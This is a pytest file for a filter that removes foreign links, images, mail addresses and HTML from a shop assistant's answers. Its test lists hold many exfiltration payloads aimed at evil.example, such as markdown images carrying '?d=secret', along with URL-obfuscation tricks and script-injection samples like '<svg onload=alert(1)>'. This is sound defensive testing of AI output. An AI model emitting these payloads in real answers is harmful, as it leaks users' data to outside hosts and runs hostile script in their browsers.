"""Addresses in answers: what a browser fetches or a person could follow goes, the rest stays."""

import time
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from helpers.security.controls import allow_hosts
from helpers.security.controls.links import Allowed
from helpers.security.controls.output import (
    ALLOWED_HOSTS,
    MOST_BRACKETS,
    MOST_CHARACTERS,
    shop_mail,
)
from helpers.security.controls.parsed import REMOVED
from helpers.shop import documents, questions

OF_THE_ISSUE = [
    ("![a][1]\n\n[1]: <//evil.example/p?d=secret>", f"{REMOVED}\n\n{REMOVED}"),
    ("![a](\t//evil.example/p)", REMOVED),
    ("![a](\n//evil.example/p)", REMOVED),
    ("![a](https&#58;//evil.example/p)", REMOVED),
    (r"![a](https:/\/evil.example/p)", REMOVED),
    ("[a [b] c](//evil.example/p)", "a [b] c"),
    ("![a [b](//evil.example/q)](//evil.example/p)", REMOVED),
    ("<img src='//evil.example/p?d=secret'>", REMOVED),
    ("[![x](//a.b)](https:/evil.example/p)", REMOVED),
    ("Log in at www.evil.example/login, please.", f"Log in at {REMOVED}, please."),
    ("Write to ada.byron@evil.example.", f"Write to {REMOVED}."),
]
SIBLINGS = [
    ("![a][]\n\n[a]: //evil.example/p 'title'", f"{REMOVED}\n\n{REMOVED}"),
    ("![a]\r\n\r\n[A]: //evil.example/p\r\n", f"{REMOVED}\r\n\r\n{REMOVED}\r\n"),
    ("> ![a][1]\n>\n> [1]: //2130706433/p", f"> {REMOVED}\n>\n{REMOVED}"),
    ("- one\n  ![a](//evil.example/p)\n- two", f"- one\n  {REMOVED}\n- two"),
    ("| a | b |\n|---|---|\n| ![x](//a.b) | ![x](//a.b) |", None),
    ("| a | b |\n|---|---|\n| c \\| d | ![y](//2130706433/) |", None),
    ("## A ![x](//localhost/p) heading ##", f"## A {REMOVED} heading ##"),
    ("![a](https:evil.example)", REMOVED),
    ("![a](HTTPS:\\\\evil.example)", REMOVED),
    ("![a](http:2130706433)", REMOVED),
    (r"![a](\/\/evil\.example/p)", REMOVED),
    ("![a](java&#10;script:alert&lpar;1))", None),
    ("![a](<https://evil.example/a b> 'x')", REMOVED),
    ("[a](www.evil.example/login)", "a"),
    ("[a](evil.example/login)", "a"),
    ("[a](mailto:ada@evil.example)", "a"),
    ("[a](mailto:privacy@fernhill.example?bcc=ada@evil.example)", "a"),
    ("[a](tel:+447700900123)", "a"),
    ("<https://evil.example/x>", REMOVED),
    ("<ada@evil.example>", REMOVED),
    ("`https://evil.example/p`", f"`{REMOVED}`"),
    ("<img/src=//evil.example/p>", REMOVED),
    ("<img src='ht\ntps://evil.example/p'>", REMOVED),
    ("<img src=&#x2f;&#47;evil.example/p>", REMOVED),
    ('<img src="\\\\evil.example\\p">', REMOVED),
    ("<img srcset='//evil.example/p 2x'>", REMOVED),
    ("Look: <img src=//evil.example/p ", f"Look: {REMOVED}"),
    ("<p style='background:url(//evil.example/p)'>x</p>", f"{REMOVED}x</p>"),
    ("<svg onload=alert(1)>", REMOVED),
    ("<script>go()</script>", f"{REMOVED}go(){REMOVED}"),
    ("<base href=//evil.example>", REMOVED),
    ("<a title='![x](//evil.example/p)'>x</a>", None),
    ("evil.example/p?d=1 is it", f"{REMOVED} is it"),
    ("evil.com", REMOVED),
    ("EVIL.SHOP", REMOVED),
    ("evil.it/login", REMOVED),
    ("evil.it:8080", REMOVED),
    ("evil.it?d=secret", REMOVED),
    ("xn--80ak6aa92e.com", REMOVED),
    ("10.0.0.1/admin", REMOVED),
    ("http://[::1]/x", REMOVED),
    ("ftp://evil.example/x", REMOVED),
    ("evil[.]example/p", REMOVED),
    ("hxxps://evil[.]example", REMOVED),
    ("ada[at]evil(dot)example", REMOVED),
    ("\uff48ttps://evil.example", REMOVED),
    ("https://evil\u3002example/x", REMOVED),
    ("h\u200bttps://evil.exam\u00adple/x", REMOVED),
    ("https://fernh\u0456ll.example/", REMOVED),
    ("https://fernhill.example@evil.example/", REMOVED),
    ("https://fernhill.example.evil.example/", REMOVED),
    ("https://fernhill.example\u2014.evil.example/", REMOVED),
    ("https://fernhill.example:8443/", REMOVED),
    ("https://fernhill.example,https://evil.example/", f"https://fernhill.example,{REMOVED}"),
    ("https://fernhill.example/?to=https://evil.example", None),
]

HONEST = [
    "See https://fernhill.example.",
    "See https://fernhill.example\u2014it is all there.",
    "https://fernhill.example/care?a=1&b=2",
    "(https://fernhill.example/care), **https://fernhill.example**, `fernhill.example/care`",
    "[https://fernhill.example](https://fernhill.example)",
    "<https://fernhill.example/care?a=1>",
    "<a href='https://fernhill.example/x'>x</a>, <br>, <b>bold</b>, <!-- a=1 -->",
    "[a][1]\n\n[1]: https://fernhill.example/care 'Care'",
    "https://fernhill.example/?q=caf\u00e9 or www.fernhill.example",
    "Is it privacy@fernhill.example? Or [this](mailto:privacy@fernhill.example)?",
    "3.5 kg, e.g. a tent, file.txt? at 10.30pm, FH-10042. Node.js-like, i.e. 1.2.3.4",
    "Mon.-Fri. 9.00-17.30, 50 km/h, 3.5l/min, \u00a33.50/day, p.m./a.m., 12//13, and/or",
    "weights < 5 kg, <3, a<b, Enter <your name>, C:\\temp, \\*no list\\*",
    "https: is a scheme. data: 3 items. note: a [thing](#sizes), [page](/sizes)",
    "It is light.Top of the range. The tent.It is dry. Ask @fernhill.",
    "\r\n\ttext \u00a0 with\u200d odd  spaces \r\n",
]


@pytest.mark.parametrize(("text", "shown"), [*OF_THE_ISSUE, *SIBLINGS])
def test_foreign_addresses_are_taken_out(text: str, shown: str | None) -> None:
    cleaned = allow_hosts(text, ALLOWED_HOSTS)
    assert shown is None or cleaned == shown
    assert REMOVED in cleaned or shown is not None
    for raw_html in (True, False):
        assert not [url for url in fetched(cleaned, raw_html) if not OWN.link(url)]
    assert "evil" not in cleaned.replace("evil.example' is", "")
    assert allow_hosts(cleaned, ALLOWED_HOSTS) == cleaned


@pytest.mark.parametrize("text", HONEST)
def test_honest_words_stay_as_they_are(text: str) -> None:
    assert allow_hosts(text, ALLOWED_HOSTS) == text


def test_all_that_the_shop_says_to_customers_stays_as_it_is() -> None:
    said = [document.text for document in documents()]
    said += [
        fact
        for part in ("dev", "lab", "heldout")
        for one in questions(part)
        for group in one.required
        for fact in group
    ]
    assert len(said) > 100
    assert [text for text in said if allow_hosts(text, ALLOWED_HOSTS) != text] == []


def test_notes_for_staff_lose_the_addresses_of_suppliers_alone() -> None:
    for note in documents(internal=True):
        for line in note.text.splitlines():
            if allow_hosts(line, ALLOWED_HOSTS) != line:
                assert "@" in line, line
                assert "fernhill.example" not in line, line


def test_the_shop_s_addresses_are_those_of_its_documents() -> None:
    assert "privacy@fernhill.example" in shop_mail()
    assert all(address.endswith("@fernhill.example") for address in shop_mail())
    text = "Write to returns@fernhill.example."
    assert allow_hosts(text, ALLOWED_HOSTS) == f"Write to {REMOVED}."
    assert allow_hosts(text, ALLOWED_HOSTS, mail=["Returns@fernhill.example"]) == text


def test_a_long_answer_is_cut_and_one_of_many_brackets_goes() -> None:
    assert allow_hosts("a" * (MOST_CHARACTERS + 1), ()) == "a" * MOST_CHARACTERS
    assert allow_hosts("[" * MOST_BRACKETS, ()) == "[" * MOST_BRACKETS
    assert allow_hosts("[" * (MOST_BRACKETS + 1), ()) == REMOVED


PIECES = [
    "a", "a.", "a-", "a@", "a.b@", ".", "//", "\\", "x:/", "https:", "www.", "&#", "&#58;", "(.)",
    "<", "<a ", '<a href="', "<a title='", "<!--", "> ", "- ", "`", "*", "_", "|a", ")", "]",
    "[a]:", "\u200b", "\uff48", "1.", "https://fernhill.example)",
]  # fmt: skip


@pytest.mark.parametrize(
    ("before", "piece"), [*(("", each) for each in PIECES), *(("[" * 50, each) for each in "a*]<")]
)
def test_the_time_grows_with_the_length(before: str, piece: str) -> None:
    for _ in range(4):
        once, twice = (seconds(before + piece * (n // len(piece))) for n in (2000, 4000))
        if twice < 3 * once + 0.01:
            return
    pytest.fail(f"{once:.3f} s, and for twice the length {twice:.3f} s")


def seconds(text: str) -> float:
    started = time.process_time()
    allow_hosts(text, ALLOWED_HOSTS)
    return time.process_time() - started


OWN = Allowed.of(ALLOWED_HOSTS, shop_mail())


def fetched(text: str, raw_html: bool) -> list[str]:
    """The addresses in the page that a text becomes, by the parser and the renderer alone."""
    renderer = MarkdownIt("commonmark", {"html": raw_html}).enable(["table", "strikethrough"])
    page = _Page()
    page.feed(renderer.render(text))
    return page.addresses


class _Page(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.addresses: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.addresses += [value or "" for name, value in attrs if name in ("href", "src")]
